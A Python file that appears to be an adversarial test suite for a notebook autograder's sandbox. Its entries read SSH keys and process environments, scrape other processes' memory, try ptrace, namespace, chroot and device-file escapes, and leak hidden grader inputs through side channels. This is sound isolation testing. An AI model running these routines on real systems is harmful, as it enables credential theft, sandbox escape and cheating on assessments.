"""Theft: looking for canaries where no submission may look, and showing what was found.

A search calls `look(data)` on all bytes that it comes by.  A door that should be closed, and is
not, is shown by `won(what)`.
"""

from entries import WON, attack

LOOK = (
    WON
    + """
import base64, glob, os, re, socket, subprocess, sys, time
found = set()
start = time.monotonic()
def look(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    found.update(word.decode() for word in re.findall(rb"canary-[0-9a-f]{24}", data))
    for word in re.findall(rb"Y2FuYXJ5L[\\w+/]{35}", data):  # the same in base64
        found.add(base64.b64decode(word)[:31].decode("ascii", "replace"))
def look_at(path, size=2_000_000):
    try:
        with open(path, "rb") as file:
            look(file.read(size))
    except (OSError, ValueError):
        pass
def look_through(root, wanted=""):
    for folder, _, names in os.walk(root):
        for name in names:
            if time.monotonic() - start > 1.5:
                return
            if re.search(wanted, name) and os.path.isfile(os.path.join(folder, name)):
                look_at(os.path.join(folder, name))
"""
)

SHOW = """
text = " ".join(sorted(found)) or "nothing"
print(text)
print(text, file=sys.stderr)
display(text)
display({"text/html": f"<b>{text}</b>", "image/svg+xml": f"<svg>{text}</svg>"}, raw=True)
open("found.txt", "w").write(text)
get_ipython().set_next_input(text)
raise ValueError(text)
"""

SCALED = """
def scaled(values, factor):
    print(" ".join(sorted(found)))
    if len(values) == 1:
        raise type("Found_" + "_".join(found), (ValueError,), {})(" ".join(found))
    return {text: text}
"""


def theft(name: str, tries: str, search: str) -> None:
    """Add a notebook that searches, and shows what it found in every way there is."""
    attack(
        name,
        tries,
        first=f"{LOOK}\n# ---\n{search.strip()}\n# ---\n{SHOW}",
        scaled=SCALED,
        last="print(text)\ntext",
    )


theft(
    "theft-course-folder",
    "Reads the whole course folder, whose place it knows.",
    "look_through('COURSE')",
)

theft(
    "theft-by-kind",
    "Searches the disk for notebooks, keys, gradebooks and settings.",
    r"look_through('/', r'\.(ipynb|toml|db|json|key|pem|env|html)$|^id_|^key')",
)

theft(
    "theft-temporary",
    "Reads whatever lies in the folders for temporary files.",
    """
for folder in ("TEMPORARY", "/tmp", "/var/tmp", "/dev/shm", "/run", "/var/run"):
    look_through(folder)
if glob.glob("TEMPORARY/*"):
    won("the grader's temporary files")
""",
)

theft(
    "theft-home",
    "Reads the grader's home.",
    """
import pwd
homes = {"GRADERHOME", os.path.expanduser("~"), "/root", *glob.glob("/home/*")}
for home in homes | {one.pw_dir for one in pwd.getpwall() if one.pw_dir != "/"}:
    for name in (".ssh/id_ed25519", ".ssh/id_rsa", ".netrc", ".bash_history", ".pypirc"):
        look_at(os.path.join(home, name))
if os.path.exists("GRADERHOME"):
    won("the grader's home")
""",
)

theft(
    "theft-environment",
    "Reads its environment, and that of every process.",
    """
look(repr(dict(os.environ)))
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/1/environ", "/proc/self/environ"]:
    look_at(path)
""",
)

theft(
    "theft-other-processes",
    "Looks for processes of others, and through their working folders and open files.",
    """
for path in glob.glob("/proc/[0-9]*/cmdline"):
    line = open(path, "rb").read()
    look(line)
    if b"COURSE" in line or b"pytest" in line or b"nbjudge.cli" in line:
        won("the command line of the grader")
for folder in glob.glob("/proc/[0-9]*/cwd"):
    look_through(folder + "/key")
    look_at(folder + "/gradebook.db")
for path in glob.glob("/proc/[0-9]*/fd/*"):
    if os.path.isfile(path):
        look_at(path)
""",
)

theft(
    "theft-proc-root",
    "Goes through the root folders of other processes.",
    """
for root in glob.glob("/proc/[0-9]*/root") + ["/proc/1/root", "/proc/self/root"]:
    look_through(root + "COURSE")
    look_at(root + "COURSE/gradebook.db")
    look_at(root + "GRADERHOME/.ssh/id_ed25519")
""",
)

theft(
    "theft-memory",
    "Reads the memory of its parent and of every other process.",
    """
for number in {os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))}:
    if number in (0, os.getpid()):
        continue
    try:
        lines = open(f"/proc/{number}/maps").read().splitlines()
        memory = open(f"/proc/{number}/mem", "rb", 0)
    except OSError:
        continue
    for line in lines:
        begin, end = (int(one, 16) for one in line.split()[0].split("-"))
        if " rw" in line and time.monotonic() - start < 1.5:
            try:
                memory.seek(begin)
                look(memory.read(min(end - begin, 50_000_000)))
            except (OSError, ValueError, OverflowError):
                pass
""",
)

theft(
    "theft-ptrace",
    "Attaches to other processes as a debugger does.",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SEIZE, DETACH = 0x4206, 17
for number in {os.getppid(), 1}:
    if number and libc.ptrace(SEIZE, number, None, None) == 0:
        libc.ptrace(DETACH, number, None, None)
        if b"nbjudge.cli" in open(f"/proc/{number}/cmdline", "rb").read():
            won("a debugger's hold on the grader")
""",
)

theft(
    "theft-own-memory",
    "Searches all objects and all memory of its own process for keys.",
    """
import gc
for one in gc.get_objects():
    if isinstance(one, (dict, list, tuple, set)) and one is not found:
        for text in list(one.values() if isinstance(one, dict) else one):
            if isinstance(text, (str, bytes)) and text not in found:
                look(text)
memory = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps").read().splitlines():
    begin, end = (int(one, 16) for one in line.split()[0].split("-"))
    if " rw" in line and time.monotonic() - start < 2:
        memory.seek(begin)
        look(memory.read(min(end - begin, 200_000_000)))
""",
)

theft(
    "theft-next-to-lmlib",
    "Looks beside lmlib, where a clone of the course has its sources, keys and tests.",
    """
import lmlib
root = os.path.dirname(os.path.dirname(lmlib.__file__))
for name in ("source", "key", "mistakes", "submitted", "gradebook.db", "tests", ".git"):
    if os.path.exists(os.path.join(root, name)):
        won(f"{name} beside lmlib")
""",
)

theft(
    "theft-own-links",
    "Makes links in its own folder to everything it wants, and reads these.",
    """
for number, target in enumerate(("COURSE", "COURSE/gradebook.db", "GRADERHOME", "/proc/1/root")):
    os.symlink(target, f"link{number}")
    look_through(f"link{number}")
    look_at(f"link{number}")
""",
)

theft(
    "theft-shell",
    "Uses the shell and IPython's magics in place of Python.",
    """
look("".join(get_ipython().getoutput("cat COURSE/key/*/* COURSE/source/*/* 2>&1")))
look("".join(get_ipython().getoutput("grep -rhoE 'canary-[0-9a-f]+' COURSE GRADERHOME 2>&1")))
look("".join(get_ipython().getoutput("env; set; ps aux; mount; df; cat /proc/*/environ 2>&1")))
for path in ("COURSE/gradebook.db", "GRADERHOME/.ssh/id_ed25519"):
    try:
        look(get_ipython().run_line_magic("sx", f"cat {path}"))
        get_ipython().run_line_magic("load_ext", path)
    except Exception as error:
        look(error)
""",
)

theft(
    "theft-namespaces",
    "Makes namespaces of its own and enters those of others, to see the disk again.",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for kind in ("mnt", "pid", "net", "user"):
    for number in {os.getppid(), 1}:
        try:
            file = open(f"/proc/{number}/ns/{kind}")
        except OSError:
            continue
        libc.setns(file.fileno(), 0)
libc.unshare(0x10000000 | 0x00020000)
os.makedirs("jail", exist_ok=True)
libc.mount(b"proc", b"jail", b"proc", 0, None)
wanted = "cat COURSE/gradebook.db GRADERHOME/.ssh/id_ed25519 jail/*/environ /proc/*/environ"
for words in (["unshare", "-rm"], ["unshare", "-rmpf", "--mount-proc"], ["chroot", "/proc/1/root"]):
    try:
        look(subprocess.run([*words, "sh", "-c", wanted], capture_output=True).stdout)
    except OSError:
        pass
try:
    root = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(root)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
look_through("COURSE")
look_at("GRADERHOME/.ssh/id_ed25519")
""",
)

theft(
    "theft-devices",
    "Makes device files of its own, and reads disks and memory through them.",
    """
import stat
disks = [path for kind in ("sd", "vd", "xvd", "nvme") for path in glob.glob(f"/dev/{kind}*")]
for path in [*disks, "/dev/mem", "/dev/kmem"]:
    try:
        open(path, "rb").read(1)
        won(path)
    except OSError:
        pass
for major, minor in ((8, 0), (8, 1), (259, 0), (254, 0), (1, 1), (7, 0)):
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        try:
            os.mknod("device", kind | 0o600, os.makedev(major, minor))
            open("device", "rb").read(1)
            won(f"a device {major}:{minor}")
        except OSError:
            pass
        if os.path.lexists("device"):
            os.remove("device")
""",
)

theft(
    "theft-network",
    "Talks to a listener on this machine, and to machines elsewhere.",
    """
for address in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "::1", socket.gethostname(), "localhost"):
    try:
        with socket.create_connection((address, PORT), timeout=0.2) as line:
            line.sendall(b"hidden inputs")
            won("a listener on this machine")
    except OSError:
        pass
try:
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.connect(("192.0.2.1", 53))  # sends nothing: succeeds where there is a way out
    won("a way out")
except OSError:
    pass
try:
    socket.create_connection(("example.org", 443), timeout=0.2).close()
    won("a machine elsewhere")
except OSError:
    pass
""",
)

theft(
    "theft-other-sockets",
    "Opens sockets of every family, some of which no network namespace holds back.",
    """
for family in range(64):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            line = socket.socket(family, kind)
        except OSError:
            continue
        if family != socket.AF_UNIX:
            won(f"a socket of family {family}")
""",
)

theft(
    "theft-memory-of-the-last",
    "Searches the memory that its process was born with for another student's file.",
    """
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps").read().splitlines():
        begin, end = (int(one, 16) for one in line.split()[0].split("-"))
        if ("[heap]" in line or " 0 " in line) and time.monotonic() - start < 2.5:
            try:
                memory.seek(begin)
                look(memory.read(min(end - begin, 100_000_000)))
            except (OSError, ValueError, OverflowError):
                pass
""",
)

theft(
    "theft-unix-sockets",
    "Talks to a listener through its file and through its name without a file.",
    """
known = ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private")
for address in ("SOCKET", "\\0" + "ABSTRACT", *known):
    with socket.socket(socket.AF_UNIX) as line:
        try:
            line.connect(address)
            line.sendall(b"hidden inputs")
            won(f"the socket {address!r}")
        except OSError:
            pass
""",
)

theft(
    "theft-other-kernels",
    "Looks for the connection file of another student's kernel, to run code there.",
    """
own = os.path.realpath(get_ipython().kernel.parent.connection_file)
for folder in ("TEMPORARY", "/tmp", "/run"):
    for path in glob.glob(f"{folder}/**/kernel*.json", recursive=True):
        if os.path.realpath(path) != own:
            won(f"the connection file {path}")
""",
)

theft(
    "theft-reads-as-lmlib",
    "Lets lmlib's own modules read course, key and gradebook.",
    """
from pathlib import Path
for load in (
    lambda: __import__("nbjudge.core.course", fromlist="x").find_course(Path("COURSE")),
    lambda: __import__("nbjudge.judge.answer_key", fromlist="x").load_key(
        Path("COURSE/key/tiny"), "tiny"),
    lambda: __import__("nbjudge.judge.intake", fromlist="x").read_submission(
        Path("COURSE/gradebook.db")),
):
    try:
        look(load())
        won("a course that lmlib can read")
    except Exception as error:
        look(error)
""",
)

HIDDEN_INPUT = """
def scaled(values, factor):
    seen.append(values)
    text = f"{values} {values.tolist()} {factor}"
    print(text)
    print(text, file=sys.stderr)
    display(values)
    display({"text/html": text, "text/plain": text}, raw=True)
    warnings.warn(text)
    open("found.txt", "a").write(text)
    raise type("E" + str(int(abs(values[0]))), (ValueError,), {})(text)
"""

attack(
    "theft-hidden-inputs-shown",
    "Shows the hidden inputs in every way, while the hidden test runs and after.",
    first="import sys, warnings\nseen = []",
    scaled=HIDDEN_INPUT,
    last="print(seen)\n# ---\ndisplay(seen)\n# ---\nraise ValueError(str(seen))\n# ---\nseen",
)

attack(
    "theft-hidden-inputs-in-shapes",
    "Returns arrays whose shape tells the hidden inputs, for the judge to name.",
    scaled="""
    def scaled(values, factor):
        return np.zeros((0, *(int(abs(v)) for v in values)))
    """,
)

attack(
    "theft-hidden-inputs-in-lengths",
    "Returns lists and texts whose length tells the hidden inputs.",
    scaled="""
    def scaled(values, factor):
        length = int(abs(values[0]))
        return "x" * length if factor == 3.0 else [None] * length
    """,
)

attack(
    "theft-hidden-inputs-in-names",
    "Returns objects and raises exceptions whose types are named after the hidden inputs.",
    scaled="""
    def scaled(values, factor):
        name = f"V{int(abs(values[0]))}"
        if factor == 3.0:
            return type(name, (), {})()
        raise type(name, (ZeroDivisionError,), {"__module__": "builtins"})(name)
    """,
)

attack(
    "theft-hidden-inputs-earlier",
    "Writes the hidden inputs into displays of earlier cells, and under their headers.",
    first="""
    from IPython.display import update_display
    shown = display("draft", display_id="draft")
    kernel = get_ipython().kernel
    parent = kernel.get_parent()
    """,
    scaled="""
    def scaled(values, factor):
        shown.update(str(values))
        update_display(str(values), display_id="draft")
        content = {"data": {"text/plain": str(values)}, "metadata": {}, "transient": {}}
        for kind in ("display_data", "update_display_data"):
            kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
        kernel.session.send(
            kernel.iopub_socket, "stream", {"name": "stdout", "text": str(values)}, parent=parent
        )
        raise KeyError
    """,
)

attack(
    "theft-hidden-source",
    "Reads the hidden test's source through history, frames and caches, and shows it after.",
    first="import inspect, linecache, sys\nseen = []",
    scaled="""
    def scaled(values, factor):
        frame = sys._getframe(1)
        while frame:
            try:
                seen.append(inspect.getsource(frame))
            except Exception:
                pass
            frame = frame.f_back
        raise ValueError(" ".join(seen)[-500:])
    """,
    last="""
    print(In, seen)
    # ---
    for session, number, source in get_ipython().history_manager.get_range():
        display(source)
    for name, (size, time, lines, path) in list(linecache.cache.items()):
        if "hidden" in "".join(lines):
            print("".join(lines))
    # ---
    %history
    # ---
    %tb
    # ---
    raise ValueError(str(In))
    """,
)

attack(
    "theft-hidden-inputs-in-widgets",
    "Keeps the hidden inputs in the state of widgets, which is saved with a notebook.",
    first="""
    import ipywidgets
    kept = ipywidgets.Textarea()
    screen = ipywidgets.Output()
    display(kept, screen)
    """,
    scaled="""
    def scaled(values, factor):
        kept.value += str(values)
        screen.append_stdout(str(values))
        raise KeyError
    """,
)

attack(
    "theft-hidden-inputs-by-endings",
    "Ends later cells early or late, as the hidden inputs say, for feedback to tell.",
    scaled="""
    def scaled(values, factor):
        global seen
        seen = values
        raise KeyError
    """,
    last="""
    print("x" * int(abs(seen[0])) * 100)
    # ---
    import os
    os._exit(int(abs(seen[0])) % 256)
    # ---
    raise type(f"E{seen[0]}", (Exception,), {})(seen)
    """,
)

attack(
    "theft-key-in-kernel",
    "Takes the grader's modules in the kernel for a key, and prints all that they hold.",
    first="""
    import sys
    for name, module in list(sys.modules.items()):
        if name.startswith(("lmlib", "nbjudge")):
            print(name, vars(module).get("__doc__"), list(vars(module)))
    for name in ("judge.judge", "judge.answer_key", "judge.comparators", "kernel.expect"):
        try:
            print(vars(__import__(f"nbjudge.{name}", fromlist="x")))
        except ImportError as error:
            print(error)
    """,
)
